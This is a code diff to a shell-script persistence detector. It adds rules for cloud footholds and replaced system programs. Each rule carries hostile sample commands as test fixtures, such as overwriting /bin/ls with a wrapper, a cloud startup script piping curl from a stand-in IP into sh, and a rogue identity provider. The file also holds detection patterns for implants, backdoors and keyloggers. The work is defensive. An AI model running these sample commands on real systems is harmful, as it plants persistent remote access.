@@ -36,6 +36,13 @@ const implant = ruleOf('persistence.implant', 'persistence', 'high', 'a program 
 const lingers = ruleOf('persistence.lingers', 'persistence', 'medium', 'services of a user that run on without a login', shell('loginctl enable-linger ci'), shell('loginctl list-users'), `${T}T1543.002`);
 const detached = ruleOf('persistence.detached', 'persistence', 'high', 'a program from a hidden place or shared memory left running without a terminal', shell('nohup /dev/shm/.x >/dev/null 2>&1 &'), shell('nohup npm start > app.log 2>&1 &'), `${T}T1564.001, T1543`);
 const cloudStart = ruleOf('persistence.cloud-start', 'persistence', 'high', 'a start script or function of a cloud machine that downloads, decodes or sends something', shell('gcloud compute instances add-metadata web --metadata startup-script="curl -s http://203.0.113.9/a | sh"'), shell('gcloud compute instances add-metadata web --metadata enable-oslogin=TRUE'), `${T}T1037, T1648`);
+const cloudFoothold = ruleOf(
+  'persistence.cloud-foothold', 'persistence', 'high', 'a key, long-lived token, identity provider or trust that lets somebody back into a cloud or cluster', shell('aws iam create-open-id-connect-provider --url https://id.example.net --client-id-list sts.amazonaws.com'),
+  shell('aws iam create-open-id-connect-provider --url https://token.actions.githubusercontent.com --client-id-list sts.amazonaws.com'), `${T}T1098, T1484.002`,
+);
+const programReplaced = ruleOf(
+  'persistence.program-replaced', 'persistence', 'high', 'a program of the system overwritten by something from elsewhere', shell("printf '#!/bin/sh\\n/opt/a &\\nexec ls.real\\n' > /bin/ls"), shell('cp build/ssh-report /usr/local/bin/ssh-report'), `${T}T1554`,
+);
 const materialRules: readonly (readonly [path: RegExp, material: RegExp, rule: string])[] = [
   [/authorized_keys/, /\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp\d{3})\s+AAAA/, 'persistence.authorized-keys'],
   [/\/etc\/sudoers/, /\bALL\s{0,4}=\s{0,4}\(\s{0,4}ALL(?:\s{0,4}:\s{0,4}ALL)?\s{0,4}\)\s{0,4}(?:NOPASSWD:\s{0,4})?ALL\b/, 'privilege.sudoers'],
@@ -43,7 +50,7 @@ const materialRules: readonly (readonly [path: RegExp, material: RegExp, rule: s
 ];
 
 export const persistenceRules: readonly Rule[] = [
-  ...new Set([...startFiles.map(({ rule }) => rule), scheduled, startFileTouched, jobMade, foreignService, kernelModule, newAccount, accountMade, remoteManifest, clusterJob, loginHook, trap, gitSetting, miner, lastingContainer, disguised, implant, lingers, cloudStart, detached]),
+  ...new Set([...startFiles.map(({ rule }) => rule), scheduled, startFileTouched, jobMade, foreignService, kernelModule, newAccount, accountMade, remoteManifest, clusterJob, loginHook, trap, gitSetting, miner, lastingContainer, disguised, implant, lingers, cloudStart, detached, programReplaced, cloudFoothold]),
 ];
 
 type Write = Readonly<{ target: Word; content: string | undefined; source: string | undefined }>;
@@ -114,11 +121,18 @@ function textOf(script: string, { name, args, redirects, input, end }: Command):
   return TEXTS.has(name) && (name === 'echo' || name === 'printf') ? args.map(({ text }) => text).join(' ') : undefined;
 }
 
+/** Programs that people and services start all the time; a package manager alone writes them. */
+const SYSTEM_PROGRAM = /^\/(?:usr\/)?s?bin\/(?:ba|da|z)?(?:sh|cat|ls|ps|ssh|sshd|sudo|su|login|netstat|ss|top|find|lsof|crontab|crond?|systemctl|passwd|grep|kill|id|whoami|who|w|last|mount|ifconfig|ip|true|sleep|date|uname|agetty|getty|nologin|scp)$/;
+/** Another program of the system, put there under a second name. */
+const FROM_SYSTEM = /^(?:\/usr)?\/s?bin\/|busybox|\.(?:orig|original|real|bak|dpkg-\w+)$/;
+
 function tellWrites(seen: Seen, command: Command): void {
   for (const { target, content, source } of writesOf(seen, command)) {
     if (target.text.length > 1_024) continue;
     seen.view.budget.spend(target.text.length * 4 + 200);
-    const entry = startFileAt(plainPath(target.text));
+    const path = plainPath(target.text);
+    if (SYSTEM_PROGRAM.test(path) && command.name !== 'ln' && !(source !== undefined && FROM_SYSTEM.test(source))) seen.view.report(programReplaced, command.start, command.end);
+    const entry = startFileAt(path);
     if (!entry) continue;
     const { start } = pipedInto(command).at(-1) ?? command;
     const { end } = command;
@@ -141,6 +155,9 @@ const suspectInput = ({ command, at }: Line, seen: Seen): boolean => {
   const piped = [command, ...pipedInto(command)].some((one) => isSuspectPayload(textOf(seen.view.text, one) ?? ''));
   return piped || (command.pipedFrom !== undefined && seen.script.commands.slice(Math.max(0, at - 8), at).some((one) => one.name === 'echo' && one.end <= command.start && one.end > command.start - 40 && isSuspectPayload(textOf(seen.view.text, one) ?? '')));
 };
+
+/** An identity provider that is none of the well-known build services and directories. */
+const NOT_KNOWN_ISSUER = String.raw`(?!\S*(?:githubusercontent\.com|gitlab\.com|oidc\.eks|app\.terraform\.io|circleci\.com|vercel\.com|bitbucket\.org|buildkite\.com|okta\.com|microsoftonline\.com|accounts\.google\.com))\w`;
 
 const rows: readonly Row[] = [
   row('crontab', /^crontab(?: -u \S+)?(?: -)?$/, scheduled, suspectInput),
@@ -181,10 +198,18 @@ const rows: readonly Row[] = [
   row('cp mv install ln ditto tee', /\bcom\.apple\.[\w.-]+\.plist\b.*(?<!\/System)\/Library\/Launch(?:Agents|Daemons)\b|(?<!\/System)\/Library\/Launch(?:Agents|Daemons)\/com\.apple\./i, disguised),
   row('aws gcloud az curl wget docker kubectl npm pip pip3 cp mv install chmod systemctl nohup python python3 bash sh node', /(?:^|[\s/_.=:-])(?:implant|backdoor|keylogger|key_logger|rootkit|stealer|dropper|trojan|botnet|ransomware|infostealer)(?:[\s/_.-]|\.(?:zip|py|sh|js|exe|elf|bin|so|jar|tgz|tar|ps1)|$)/i, implant, ({ command, text }) => !/^\S+ (?:-\S+ )*(?:test|run test|grep)/.test(text) && command.args.slice(0, 32).some(({ text: word }) => /(?:implant|backdoor|key_?logger|rootkit|stealer|dropper|trojan|botnet|ransomware|infostealer)/i.test(word) && !/\s/.test(word) && !/\.(?:md|txt|html?|pdf|rst|json|ya?ml|csv)$|\b(?:detect|anti|scan|test|docs?|research|awareness|protection)/i.test(word))),
   row('loginctl', /^loginctl enable-linger/, lingers),
-  row('gcloud aws az doctl hcloud linode-cli', /(?:startup-script|user-?data|custom-data|shutdown-script|run-command invoke|ssm send-command|create-function|update-function-code|serial-port)/i, cloudStart, suspectLine),
+  row('gcloud aws az doctl hcloud linode-cli', /(?:startup-script|user-?data|custom-data|shutdown-script|run-command invoke|vm extension set|ssm (?:send-command|create-association)|scheduler jobs|scheduler create-schedule|events put-targets|create-function|update-function-code|serial-port)/i, cloudStart, suspectLine),
+  row('aws', /\bec2 modify-instance-attribute\b.*--(?:user-data|attribute[= ]userData)/, cloudStart),
+  row('aws', /\biam (?:create-saml-provider|update-saml-provider)\b|\biam create-role\b.*"Principal\\?"\s*:\s*(?:\{\s*\\?"AWS\\?"\s*:\s*)?\[?\s*\\?"\*/, cloudFoothold),
+  row('aws gcloud', new RegExp(String.raw`\b(?:iam create-open-id-connect-provider\b.*--url|workload-identity-pools providers create-(?:oidc|saml|aws)\b.*--issuer-uri)[= ]["']?https?:\/\/${NOT_KNOWN_ISSUER}`), cloudFoothold),
+  row('gcloud', /\badd-metadata\b.*ssh-keys/, cloudFoothold),
+  row('kubectl oc', /\bcreate token\b.*--duration[= ]?(?:[1-9]\d{2,}h|[1-9]\d{4,}m|[1-9]\d{5,}s)/, cloudFoothold),
+  row('ln cp', /\s\/usr\/sbin\/sshd (?!\/usr\/(?:local\/)?sbin\/)\/\S*\/(?:su|chsh|chfn|passwd|runuser)$/, foreignService),
+  row('docker podman nerdctl', /^\S+ update\b.*--restart[= ]always/, startFileTouched),
   row('systemctl', /^systemctl --user .*\benable\b.*/, foreignService, ({ command }, { script }) => script.commands.some((other) => /^(?:cp|mv|install|ln|curl|wget)$/.test(other.name) && other.args.slice(0, 16).some(({ text }) => /^\/(?:tmp|var\/tmp|dev\/shm)\//.test(text)) && other.args.slice(0, 16).some(({ text }) => /systemd\/user/.test(text)) && other.start < command.start)),
   row('osascript', /do shell script .*(?:curl|base64|\/tmp\/|launchctl)/, loginHook),
   row('npm pip gem', /config (?:set|edit) (?:.*registry|.*index-url|script-shell|.*preinstall).*(?:http:\/\/|https?:\/\/\d)/, gitSetting),
+  row('npm pnpm yarn', /config set (?:-\S+ )*(?:script-shell|node-options|init-module|onload-script|git|prefix)[ =].*(?:\/tmp\/|\/dev\/shm\/|\/\.(?!npm|nvm|local|config)\w)/, gitSetting),
 ];
 
 /** A new account is more than a service's where the same script gives it a password, a login, or logs in as it. */
